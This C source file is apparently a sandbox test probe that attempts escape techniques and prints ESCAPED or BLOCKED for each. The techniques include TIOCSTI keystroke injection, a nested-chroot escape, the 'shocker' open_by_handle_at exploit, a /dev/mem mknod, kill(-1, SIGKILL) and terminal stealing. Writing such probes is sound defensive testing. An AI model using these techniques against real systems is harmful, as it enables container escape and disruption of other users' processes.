/*
 * probe.c: tries one attack on the sandbox it runs in and prints one line:
 * "ESCAPED[ detail]" when the operation worked, "BLOCKED: <errno name>" when it
 * failed, or a plain value (ids). It exits 0 either way, so tests assert on output.
 * Built static, copied into test sandboxes (bubblewrap's try-syscall is the model).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <termios.h>
#include <unistd.h>

#ifndef KEYCTL_GET_KEYRING_ID
#define KEYCTL_GET_KEYRING_ID 0
#endif
#ifndef KEY_SPEC_SESSION_KEYRING
#define KEY_SPEC_SESSION_KEYRING -3
#endif
#ifndef KEY_SPEC_PROCESS_KEYRING
#define KEY_SPEC_PROCESS_KEYRING -2
#endif
#ifndef KEY_SPEC_USER_KEYRING
#define KEY_SPEC_USER_KEYRING -4
#endif

static const char *errno_name(int err)
{
	switch (err) {
	case EPERM: return "EPERM";
	case EACCES: return "EACCES";
	case EBADF: return "EBADF";
	case EROFS: return "EROFS";
	case ENOENT: return "ENOENT";
	case EINVAL: return "EINVAL";
	case ENOTTY: return "ENOTTY";
	case ESRCH: return "ESRCH";
	case EIO: return "EIO";
	case ENOTDIR: return "ENOTDIR";
	case ELOOP: return "ELOOP";
	case EXDEV: return "EXDEV";
	case ESTALE: return "ESTALE";
	default: return strerror(err);
	}
}

static int report(int rc)
{
	if (rc == -1)
		printf("BLOCKED: %s\n", errno_name(errno));
	else
		printf("ESCAPED\n");
	return 0;
}

/* fd N PATH: through an inherited directory fd, open PATH relative to it. */
static int try_fd(char **argv)
{
	int dirfd = atoi(argv[0]);
	int fd;

	if (fchdir(dirfd) == -1)
		return report(-1);
	fd = open(argv[1], O_RDONLY | O_CLOEXEC);
	if (fd == -1)
		return report(-1);
	close(fd);
	return report(0);
}

/* tiocsti [high]: push a character into the terminal on fd 0; "high" sets bit 32 of the request. */
static int try_tiocsti(char **argv)
{
	unsigned long request = TIOCSTI;
	char c = '#'; /* echoed by the terminal when it gets there */

	if (argv[0] && !strcmp(argv[0], "high"))
		request |= 1UL << 32;
	return report((int)syscall(SYS_ioctl, 0, request, &c));
}

/* tioclinux: TIOCLINUX subcode 6 (get shift state) is harmless; a pty answers EINVAL or ENOTTY. */
static int try_tioclinux(void)
{
	char subcode = 6;

	return report(ioctl(0, TIOCLINUX, &subcode));
}

/* jobctl: what an interactive shell does for job control: own group, own the terminal. */
static int try_jobctl(void)
{
	signal(SIGTTOU, SIG_IGN);
	if (setpgid(0, 0) == -1)
		return report(-1);
	if (tcsetpgrp(0, getpgrp()) == -1)
		return report(-1);
	printf("OK\n");
	return 0;
}

/* read PATH: ESCAPED when bytes come back, BLOCKED: empty when none do. */
static int try_read(char **argv)
{
	char buf[16];
	ssize_t n;
	int fd = open(argv[0], O_RDONLY | O_CLOEXEC);

	if (fd == -1)
		return report(-1);
	n = read(fd, buf, sizeof buf);
	close(fd);
	if (n == 0) {
		printf("BLOCKED: empty\n");
		return 0;
	}
	return report(n < 0 ? -1 : 0);
}

/* open-write PATH: opening for writing is enough (and writes nothing). */
static int try_open_write(char **argv)
{
	int fd = open(argv[0], O_WRONLY | O_CLOEXEC);

	if (fd == -1)
		return report(-1);
	close(fd);
	return report(0);
}

/* euid: what a setuid-root copy of this probe runs as. */
static int try_euid(void)
{
	if (geteuid() == 0) {
		printf("ESCAPED\n");
		return 0;
	}
	printf("BLOCKED: euid %d\n", (int)geteuid());
	return 0;
}

/* kill-all: kill(-1, SIGKILL), every process this one may signal. */
static int try_kill_all(void)
{
	return report(kill(-1, SIGKILL));
}

/* chroot-escape MARKER HOSTPATH: the classic nested chroot and walk up with "..". */
static int try_chroot_escape(char **argv)
{
	int i;

	if (mkdir("chroot-escape.d", 0700) == -1 && errno != EEXIST)
		return report(-1);
	if (chroot("chroot-escape.d") == -1)
		return report(-1);
	for (i = 0; i < 64; i++)
		if (chdir("..") == -1)
			return report(-1);
	if (chroot(".") == -1)
		return report(-1);
	if (access(argv[1], F_OK) == 0)
		printf("ESCAPED\n");
	else if (access(argv[0], F_OK) == 0)
		printf("BLOCKED: inside\n");
	else
		printf("BLOCKED: lost\n");
	return 0;
}

/* mount: a tmpfs on /tmp (inside the sandbox's own mount namespace). */
static int try_mount(void)
{
	return report(mount("probe", "/tmp", "tmpfs", 0, NULL));
}

/*
 * shocker [PATH]: open_by_handle_at, the call of the "shocker" exploit. With PATH,
 * the real thing: a handle of the file system's root directory (ext4 and the like:
 * inode 2, generation 0), then PATH (relative) opened from there: ESCAPED means a
 * file outside the sandbox was read.
 */
static int try_shocker(char **argv)
{
	struct file_handle *handle = malloc(sizeof *handle + MAX_HANDLE_SZ);
	uint32_t root_inode[2] = {2, 0};
	int mount_id, fd, dir;

	if (!handle)
		return report(-1);
	handle->handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, "/", handle, &mount_id, 0) == -1)
		return report(-1);
	fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd == -1)
		return report(-1);
	if (!argv[0])
		return report(open_by_handle_at(fd, handle, O_RDONLY | O_CLOEXEC));
	if (handle->handle_type != 1 || handle->handle_bytes != sizeof root_inode) {
		printf("BLOCKED: not an inode-number file system\n");
		return 0;
	}
	memcpy(handle->f_handle, root_inode, sizeof root_inode);
	dir = open_by_handle_at(fd, handle, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (dir == -1)
		return report(-1);
	return report(openat(dir, argv[0], O_RDONLY | O_CLOEXEC));
}

static int try_chroot(void)
{
	return report(chroot("/"));
}

static int try_sethostname(void)
{
	return report(sethostname("probe", 5));
}

/* mknod PATH: /dev/mem's numbers, the node removed again if made. */
static int try_mknod(char **argv)
{
	int rc = mknod(argv[0], S_IFCHR | 0600, makedev(1, 1));

	if (rc == 0)
		unlink(argv[0]);
	return report(rc);
}

/* keyring: the id of the session keyring this process would use. */
static int try_keyring(void)
{
	long id = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);

	if (id == -1)
		return report(-1);
	printf("%ld\n", id);
	return 0;
}

/*
 * keys: the three keyring calls, each in a harmless form: keyctl asks for the id of
 * the user keyring (without a user namespace, the host user's), add_key adds a key to
 * a process keyring that ends with the probe, request_key looks for a key that is not
 * there, without a callout (so no /sbin/request-key runs). "ESCAPED <calls> @u=<id>"
 * names those the kernel answered and the user keyring's id; BLOCKED when all three
 * failed before reaching it.
 */
static int try_keys(void)
{
	static const char *const names[] = {"keyctl", "add_key", "request_key"};
	long rc[3];
	int err[3], i, reached = 0, first = 1;

	rc[0] = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 0);
	err[0] = errno;
	rc[1] = syscall(SYS_add_key, "user", "hako-probe", "x", (size_t)1, KEY_SPEC_PROCESS_KEYRING);
	err[1] = errno;
	rc[2] = syscall(SYS_request_key, "user", "hako-probe-absent", NULL, 0);
	err[2] = errno;
	for (i = 0; i < 3; i++)
		if (rc[i] != -1 || (err[i] != EPERM && err[i] != ENOSYS))
			reached = 1;
	if (!reached) {
		printf("BLOCKED: %s\n", errno_name(err[0]));
		return 0;
	}
	printf("ESCAPED");
	for (i = 0; i < 3; i++)
		if (rc[i] != -1 || (err[i] != EPERM && err[i] != ENOSYS)) {
			printf("%s%s", first ? " " : ",", names[i]);
			first = 0;
		}
	if (rc[0] != -1)
		printf(" @u=%ld", rc[0]); /* the same id: the same keyring */
	printf("\n");
	return 0;
}

/*
 * exec-empty PATH [ARG0]: run PATH with no arguments at all, not even a program name
 * (argv = {NULL}), or with ARG0 alone. Only a failed execve prints (BLOCKED); what
 * PATH prints and its exit status are the result.
 */
static int try_exec_empty(char **argv)
{
	char *none[2] = {argv[1], NULL};
	extern char **environ;

	execve(argv[0], none, environ);
	return report(-1);
}

/*
 * steal-tty TRIGGER RESULT: in a process group of its own (RESULT.ready says it is), and
 * deaf to SIGTTOU, wait until TRIGGER exists, then try for a second to make that group
 * the foreground of its
 * controlling terminal (/dev/tty: a shell's background job has /dev/null as fd 0): what
 * a process of the sandbox would do to read what is typed to the caller's shell while
 * hako-run is stopped. Writes "taken" or "kept" to RESULT.
 */
static int try_steal_tty(char **argv)
{
	const char *said = "kept";
	char ready[4096];
	FILE *f;
	int i, tty;

	signal(SIGTTOU, SIG_IGN);
	if (setpgid(0, 0) == -1)
		return report(-1);
	tty = open("/dev/tty", O_RDWR | O_CLOEXEC);
	if (tty == -1)
		return report(-1);
	snprintf(ready, sizeof ready, "%s.ready", argv[1]);
	close(open(ready, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
	while (access(argv[0], F_OK) == -1)
		usleep(10000);
	for (i = 0; i < 100; i++) {
		if (tcsetpgrp(tty, getpgrp()) == 0) {
			said = "taken";
			break;
		}
		usleep(10000);
	}
	f = fopen(argv[1], "w");
	if (!f)
		return report(-1);
	fputs(said, f);
	fclose(f);
	return 0;
}

int try_walk(char **argv); /* walk.c */
int try_net(char **argv);  /* net.c */
int try_calls(void);       /* calls.c */
int try_syscall(char **argv); /* syscall.c */

/* An attack takes its arguments (run) or none (run_alone). */
struct attack {
	const char *name;
	int args;
	int (*run)(char **argv);
	int (*run_alone)(void);
};

static const struct attack attacks[] = {
	{"fd", 2, try_fd, NULL},
	{"tiocsti", 0, try_tiocsti, NULL},
	{"tioclinux", 0, NULL, try_tioclinux},
	{"jobctl", 0, NULL, try_jobctl},
	{"read", 1, try_read, NULL},
	{"open-write", 1, try_open_write, NULL},
	{"euid", 0, NULL, try_euid},
	{"kill-all", 0, NULL, try_kill_all},
	{"chroot-escape", 2, try_chroot_escape, NULL},
	{"mount", 0, NULL, try_mount},
	{"shocker", 0, try_shocker, NULL},
	{"chroot", 0, NULL, try_chroot},
	{"sethostname", 0, NULL, try_sethostname},
	{"mknod", 1, try_mknod, NULL},
	{"keyring", 0, NULL, try_keyring},
	{"walk", 2, try_walk, NULL},
	{"keys", 0, NULL, try_keys},
	{"exec-empty", 1, try_exec_empty, NULL},
	{"steal-tty", 2, try_steal_tty, NULL},
	{"net", 2, try_net, NULL},
	{"calls", 0, NULL, try_calls},
	{"syscall", 1, try_syscall, NULL},
	{NULL, 0, NULL, NULL}
};

int main(int argc, char **argv)
{
	const struct attack *a;

	setvbuf(stdout, NULL, _IOLBF, 0);
	/*
	 * Run by exec-empty itself: shows that the program name really was missing.
	 * Linux 5.18 on turns an empty argv into {""}; older kernels pass argc 0.
	 */
	if (argc == 0 || !argv[0][0]) {
		printf("no program name (argc %d)\n", argc);
		return 0;
	}
	for (a = attacks; argc > 1 && a->name; a++)
		if (!strcmp(argv[1], a->name) && argc - 2 >= a->args)
			return a->run ? a->run(argv + 2) : a->run_alone();
	fprintf(stderr, "usage: probe ATTACK [args]\n");
	return 2;
}
